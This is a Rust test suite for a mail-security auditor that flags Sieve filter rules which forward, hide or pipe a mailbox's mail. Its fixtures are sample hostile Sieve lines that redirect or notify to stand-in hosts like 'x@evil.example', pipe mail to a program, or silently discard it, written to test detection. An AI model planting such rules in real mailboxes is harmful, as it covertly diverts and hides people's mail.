use std::time::Duration;

use mailwarden_evidence::{CoverageState, Observation};
use mailwarden_lab::processor;

use crate::testing::{ids, judged, script, script_of};
use crate::{BeneficiaryKind, Confidence, Finding, Report, State};

const SALES: &str = "sales@example.test";

fn report(source: &str) -> Report {
    judged(&[script(SALES, "main", true, source)], &[])
}

fn found(source: &str) -> String {
    ids(&report(source)).join(", ")
}

fn only(seen: &[Observation]) -> Finding {
    let mut findings = judged(seen, &[]).findings;
    assert_eq!(findings.len(), 1, "{:?}", ids(&judged(seen, &[])));
    findings.remove(0)
}

#[test]
fn every_effect_has_its_check_and_severity() {
    for (source, expected) in [
        ("require \"fileinto\"; if header :contains \"list-id\" \"x\" { fileinto \"Lists\"; }", ""),
        ("keep;", ""),
        ("redirect \"x@evil.example\";", "sieve.redirect-external x@evil.example high"),
        ("redirect \"bob@gmail.example\";", "sieve.redirect-external bob@gmail.example critical"),
        ("redirect \"Bob <BOB@Gmail.example>\";", "sieve.redirect-external BOB@gmail.example critical"),
        ("redirect \"x@archive.example\";", "sieve.redirect-approved x@archive.example info"),
        ("redirect \"ops@example.test\";", "sieve.redirect-internal ops@example.test info"),
        (
            "require \"copy\"; redirect :copy \"omar@example.test\";",
            "sieve.redirect-internal omar@example.test low",
        ),
        ("redirect \"omar@example.test\";", "sieve.redirect-internal omar@example.test medium"),
        ("redirect \"bob@example.test\";", "sieve.redirect-internal bob@example.test high"),
        ("redirect \"sales@example.test\";", ""),
        ("redirect \"offers+x@example.test\";", ""),
        ("if false { redirect \"x@evil.example\"; }", "sieve.redirect-external x@evil.example info"),
        (
            "require \"variables\"; if header :matches \"subject\" \"*\" { redirect \"${1}\"; }",
            "sieve.redirect-computed ${1} high",
        ),
        (
            "require \"variables\"; if header :matches \"subject\" \"*\" { redirect \"${1}@example.test\"; }",
            "sieve.redirect-computed ${1}@example.test high",
        ),
        (
            "require \"enotify\"; notify \"mailto:x@evil.example\";",
            "sieve.notify-external x@evil.example medium",
        ),
        // Pigeonhole refuses a script that notifies otherwise than by mail, so it never runs.
        ("require \"enotify\"; notify \"tel:123\";", "sieve.notify-external tel:123 info"),
        (
            "require \"vacation\"; vacation :from \"x@evil.example\" \"away\";",
            "sieve.vacation-foreign x@evil.example low",
        ),
        ("require \"vacation\"; vacation \"away\";", ""),
        ("require \"vnd.dovecot.pipe\"; pipe \"tool\";", "sieve.runs-program tool high"),
        ("discard;", "sieve.hides-mail (nowhere) low"),
        ("if header :contains \"subject\" \"invoice\" { discard; }", "sieve.hides-mail (nowhere) info"),
        ("redirect \"x@evil.example\"; discard;", "sieve.redirect-external x@evil.example high"),
        (
            "require [\"fileinto\",\"imap4flags\"]; if header :is \"x\" \"y\" { addflag \"\\\\Seen\"; \
             fileinto \"Trash\"; }",
            "sieve.hides-mail Trash low",
        ),
        ("require \"reject\"; reject \"gone\";", "sieve.refuses-mail (the sender) low"),
        ("require \"include\"; include :global \"house\";", "sieve.include-unseen house low"),
    ] {
        assert_eq!(found(source), expected, "{source}");
    }
}

#[test]
fn a_redirect_says_what_where_and_to_whom() {
    let source = "require [\"copy\"];\n# forward\nredirect \"bob@gmail.example\";\n";
    let finding = only(&[script(SALES, "main", true, source)]);
    assert_eq!(
        finding.title,
        "Mail to sales@example.test is forwarded outside to bob@gmail.example (Bob Leaver, left 2026-01-31); \
         no copy stays."
    );
    assert_eq!(finding.path, ["sales@example.test", "Sieve redirect (line 3)", "bob@gmail.example"]);
    assert_eq!(finding.locator.line, Some(3));
    let (start, end) = finding.locator.span.unwrap();
    assert_eq!(&source[start..end], "redirect \"bob@gmail.example\";");
    assert_eq!(finding.evidence[0].excerpt, "redirect \"bob@gmail.example\";");
    assert_eq!(finding.confidence, Confidence::High);
    assert_eq!(finding.beneficiary.kind, BeneficiaryKind::External);
    assert!(finding.remediation.command.contains("doveadm sieve get -u sales@example.test main"));
    assert!(finding.attack.iter().any(|attack| attack.technique == "T1114.003"));
    assert_eq!(finding.conditions, "on every message");
}

#[test]
fn an_inactive_script_is_dormant_and_milder() {
    let finding = only(&[script(SALES, "old", false, "redirect \"x@evil.example\";")]);
    assert_eq!((finding.state, finding.severity), (State::Dormant, crate::Severity::Medium));
    assert!(finding.title.ends_with("if the inactive script \"old\" were activated."), "{}", finding.title);
}

#[test]
fn an_included_script_acts_and_its_path_says_by_whom() {
    let seen = [
        script(SALES, "main", true, "require \"include\"; include \"fwd\";"),
        script(SALES, "fwd", false, "\nredirect \"x@evil.example\";"),
    ];
    let finding = only(&seen);
    assert_eq!(finding.state, State::Active);
    assert_eq!(finding.locator.script.as_deref(), Some("fwd"));
    assert_eq!(
        finding.path,
        [SALES, "Sieve script \"main\" includes \"fwd\"", "Sieve redirect (line 2)", "x@evil.example"]
    );
}

#[test]
fn what_is_not_understood_is_never_silent() {
    for source in ["frobnicate \"x\";", "require \"x-unknown\"; zap { keep; }", "if true { redirect"] {
        let report = report(source);
        let unknown = report.findings.iter().find(|finding| finding.check_id == "sieve.unknown");
        assert!(unknown.is_some_and(|finding| finding.severity == crate::Severity::Medium), "{source}");
    }
}

#[test]
fn an_unknown_server_is_judged_by_every_reading() {
    let engine = "Some Server 1.0";
    let seen = [script_of(SALES, "main", true, "redirect \"x@evil.example\";", engine)];
    let finding = only(&seen);
    assert_eq!(finding.confidence, Confidence::Medium);
    assert!(finding.conditions.contains("read so by pigeonhole, cyrus, stalwart"), "{}", finding.conditions);
    // Only Stalwart expands variables without `require`.
    let differing = "set \"d\" \"evil.example\"; redirect \"x@${d}\";";
    let report = judged(&[script_of(SALES, "main", true, differing, engine)], &[]);
    let ids = ids(&report);
    assert!(ids.iter().any(|id| id.starts_with("sieve.engines-disagree")), "{ids:?}");
    assert!(ids.contains(&"sieve.redirect-external x@evil.example high".to_owned()), "{ids:?}");
}

#[test]
fn a_rule_that_a_webmail_does_not_name_is_pointed_out() {
    let source = "require \"copy\";\nredirect :copy \"x@evil.example\";\n# rule:[Lists]\nif true { keep; }\n";
    let finding = only(&[script(SALES, "roundcube", true, source)]);
    assert!(finding.conditions.contains("may not show it"), "{}", finding.conditions);
    let named = "# rule:[..]\nredirect \"x@evil.example\";\n";
    let finding = only(&[script(SALES, "roundcube", true, named)]);
    assert!(finding.conditions.contains("roundcube shows it as rule \"..\""), "{}", finding.conditions);
    assert!(finding.remediation.regenerated_by.is_empty(), "Roundcube writes no rule that was taken out");
    let finding = only(&[script(SALES, "sogo", true, "redirect \"x@evil.example\";\n")]);
    assert_eq!(finding.remediation.regenerated_by, ["sogo"]);
}

#[test]
fn more_than_a_report_can_list_is_counted() {
    let source: String = (0..700).map(|n| format!("redirect \"x{n}@evil.example\";\n")).collect();
    let report = report(&source);
    assert_eq!(report.findings.len(), super::MAX_FINDINGS + 1);
    let rest = report.findings.iter().find(|finding| finding.check_id == "sieve.too-many").unwrap();
    assert!(rest.title.contains(" 200 more"), "{}", rest.title);
}

#[test]
fn a_surface_in_error_still_gives_its_findings() {
    let rows = [(SALES, "managesieve.scripts", CoverageState::Error)];
    let report = judged(&[script(SALES, "main", true, "redirect \"x@evil.example\";")], &rows);
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.gaps().count(), 1);
}

#[test]
fn a_script_of_one_endless_line_is_judged_in_reasonable_time() {
    let source: String = (0..15_000).map(|n| format!("redirect \"x{n}@evil.example\"; discard; ")).collect();
    let report = processor::within(Duration::from_secs(60), || report(&source));
    assert_eq!(report.findings.len(), super::MAX_FINDINGS + 1);
    assert!(report.findings.iter().all(|finding| finding.evidence[0].excerpt.len() <= 600));
}
